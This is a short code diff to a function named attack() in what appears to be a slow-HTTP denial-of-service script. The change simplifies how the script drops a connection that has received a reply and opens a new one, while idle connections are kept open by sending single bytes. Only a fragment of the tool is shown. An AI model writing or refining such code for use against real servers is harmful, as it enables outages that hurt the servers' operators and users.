@@ -38,10 +38,8 @@ def attack():
             alive = s is not None
             if alive:
                 try:
-                    if s.recv(4096) == b"":
-                        alive = False
-                    else:
-                        alive = False   # any answer (a timeout, 408, 413) ends this request: open another
+                    s.recv(4096)
+                    alive = False   # closed, or any answer (408, 413): this request is over, open another
                 except BlockingIOError:
                     try:
                         s.send(b" ")
